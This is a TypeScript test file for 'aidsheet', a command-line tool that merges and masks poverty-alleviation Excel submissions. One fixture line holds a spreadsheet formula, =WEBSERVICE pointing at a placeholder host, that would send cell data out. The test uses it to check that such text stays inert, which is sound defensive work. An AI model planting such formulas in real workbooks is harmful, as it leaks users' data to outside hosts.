// merge, indicators and demo as users run them: the compiled command on real files.
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import { cliIn } from "../support/cli";
import { fakeId18, fakeUscc } from "../support/ids";
import { validForm, validTables, workbook } from "../support/workbook";
import { writeXlsx } from "../support/xlsx";

const dir = mkdtempSync(path.join(tmpdir(), "aidsheet-merge-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const run = cliIn(dir);
const sha = (file: string) => createHash("sha256").update(readFileSync(file)).digest("hex");

async function sheetRows(file: string, name: string): Promise<ExcelJS.CellValue[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const ws = wb.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}`);
  const rows: ExcelJS.CellValue[][] = [];
  ws.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
}

const submissions = path.join(dir, "in");
let demoFiles: string[];

beforeAll(() => {
  const r = run("demo", "--out", "demo");
  expect(r.code).toBe(0);
  demoFiles = readdirSync(path.join(dir, "demo", "submissions")).map((f) =>
    path.join(dir, "demo", "submissions", f),
  );
});

describe("aidsheet demo", () => {
  test("writes the six seed submissions, their consolidated workbook and report, and says the figures are invented", () => {
    expect(demoFiles).toHaveLength(6);
    const report = JSON.parse(readFileSync(path.join(dir, "demo", "merge-report.json"), "utf8"));
    expect(report.files.map((f: { status: string }) => f.status)).toEqual(
      Array(6).fill("accepted"),
    );
    expect(report.villages.map((v: { village_code: string }) => v.village_code)).toEqual([
      "420114004204",
      "420115016209",
      "420116008204",
      "420116012215",
      "420117102205",
    ]);
    const fenghuangzhai = report.villages.find(
      (v: { village_code: string }) => v.village_code === "420116012215",
    );
    expect(fenghuangzhai.agencies).toBe("市纪委监委机关、市金控集团");
    expect(fenghuangzhai.funds_total).toBe(4910000);
  });
});

describe("aidsheet merge", () => {
  let inputs: string[];
  const hostile = '=WEBSERVICE("http://example.invalid/?"&A1)';

  beforeAll(async () => {
    const t = validTables();
    const files: [string, Parameters<typeof workbook>[0]][] = [
      ["a.xlsx", { tables: { funds: [{ ...t.funds[0]!, note: hostile }] } }],
      [
        "b.xlsx",
        {
          form: {
            ...validForm(),
            agency_code: fakeUscc(9),
            agency_name: "市金控集团",
            submitted_on: "2018-12-21",
          },
          tables: {
            households: [
              { ...t.households[0]!, id_number: fakeId18(44) },
              { ...t.households[0]!, id_number: fakeId18(45), household_size: 99 },
            ],
          },
        },
      ],
    ];
    mkdirSync(submissions, { recursive: true });
    inputs = [];
    for (const [name, parts] of files) {
      const file = path.join(submissions, name);
      writeFileSync(file, await writeXlsx(workbook(parts)));
      inputs.push(file);
    }
  });

  test("every row accounted for; rejected rows in 未合并行 with their values; formula-like text stays text; inputs untouched", async () => {
    const before = inputs.map(sha);
    const out = path.join(dir, "merged.xlsx");
    const r = run("merge", submissions, "--out", out, "--json");
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.totals.households).toEqual({ read: 3, merged: 2, rejected: 1, superseded: 0 });
    for (const f of report.files) {
      for (const c of Object.values(f.rows) as {
        read: number;
        merged: number;
        rejected: number;
        superseded: number;
      }[]) {
        expect(c.read).toBe(c.merged + c.rejected + c.superseded);
      }
    }
    expect(inputs.map(sha)).toEqual(before);

    const funds = await sheetRows(out, "资金投入");
    const noteColumn = funds[0]!.indexOf("备注");
    expect(funds[1]![noteColumn]).toBe(hostile);
    const unmerged = await sheetRows(out, "未合并行");
    expect(unmerged).toHaveLength(2);
    expect(unmerged[1]!.slice(1, 4)).toEqual(["贫困户", 3, "range"]);
    expect(JSON.parse(String(unmerged[1]![5])).household_size).toBe(99);
  });

  test("the workbook holds no formula at all", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(dir, "merged.xlsx"));
    let formulas = 0;
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => (formulas += cell.type === ExcelJS.ValueType.Formula ? 1 : 0)),
      ),
    );
    expect(formulas).toBe(0);
  });

  test("--mask-ids masks ID numbers and names in every sheet; --into refuses such a workbook (exit 2)", async () => {
    const out = path.join(dir, "masked.xlsx");
    expect(run("merge", submissions, "--out", out, "--mask-ids").code).toBe(1);
    const households = await sheetRows(out, "贫困户");
    const idColumn = households[0]!.indexOf("户主身份证号");
    const nameColumn = households[0]!.indexOf("户主姓名");
    for (const row of households.slice(1)) {
      expect(String(row[idColumn])).toMatch(/^\d{6}\*{8}\d{3}[\dX]$/);
      expect(String(row[nameColumn])).toMatch(/^.\*$/);
    }
    const text =
      JSON.stringify(await sheetRows(out, "未合并行")) +
      JSON.stringify(await sheetRows(out, "问题清单"));
    expect(text).not.toContain(fakeId18(45));
    const r = run("merge", submissions, "--out", path.join(dir, "x.xlsx"), "--into", out);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe("");
  });

  test("merge --into the same file equals merging everything at once", () => {
    const once = path.join(dir, "once.xlsx");
    const step = path.join(dir, "step.xlsx");
    const all = JSON.parse(run("merge", ...inputs, ...demoFiles, "--out", once, "--json").stdout);
    run("merge", ...inputs, "--out", step);
    const stepped = JSON.parse(
      run("merge", ...demoFiles, "--into", step, "--out", step, "--json").stdout,
    );
    expect(stepped.totals).toEqual(all.totals);
    expect(stepped.villages).toEqual(all.villages);
  });

  test("exit 2: no readable submission, a conflicting --period with --into", () => {
    const junk = path.join(dir, "junk.xlsx");
    writeFileSync(junk, "not a workbook");
    const r = run("merge", junk, "--out", path.join(dir, "y.xlsx"));
    expect(r.code).toBe(2);
    expect(r.stdout).toBe("");
    expect(
      run(
        "merge",
        ...inputs,
        "--into",
        path.join(dir, "step.xlsx"),
        "--period",
        "2019",
        "--out",
        path.join(dir, "z.xlsx"),
      ).code,
    ).toBe(2);
  });

  test("a pairing list in GB18030: missing submissions and completeness", () => {
    const csv = path.join(dir, "pairings.csv");
    // "单位代码,单位名称,村代码" in GB18030, as Excel on a Chinese Windows saves a CSV.
    const header = Buffer.from("b5a5cebbb4fac2eb2cb5a5cebbc3fbb3c62cb4e5b4fac2eb", "hex");
    const body = `\n${validForm().agency_code},A,420116012215\n11420100MB0000999X,B,420116008204\n`;
    writeFileSync(csv, Buffer.concat([header, Buffer.from(body, "ascii")]));
    const r = run(
      "merge",
      inputs[0]!,
      "--out",
      path.join(dir, "p.xlsx"),
      "--pairings",
      csv,
      "--json",
    );
    const report = JSON.parse(r.stdout);
    expect(report.completeness).toEqual({ expected: 2, received: 1, accepted: 1 });
    expect(
      report.issues.filter((i: { code: string }) => i.code === "missing-submission"),
    ).toHaveLength(1);
  });
});

describe("aidsheet indicators", () => {
  test("--json of a consolidated workbook equals that of its submissions", () => {
    const fromFiles = JSON.parse(run("indicators", ...demoFiles, "--json").stdout);
    const fromWorkbook = JSON.parse(
      run("indicators", path.join(dir, "demo", "consolidated.xlsx"), "--json").stdout,
    );
    expect(fromWorkbook).toEqual(fromFiles);
    expect(fromFiles.period).toBe("2018");
  });

  test("--out writes 汇总, 村级指标, 问题清单 and _meta", async () => {
    const out = path.join(dir, "ind.xlsx");
    expect(run("indicators", ...demoFiles, "--out", out).code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["汇总", "村级指标", "问题清单", "_meta"]);
  });
});
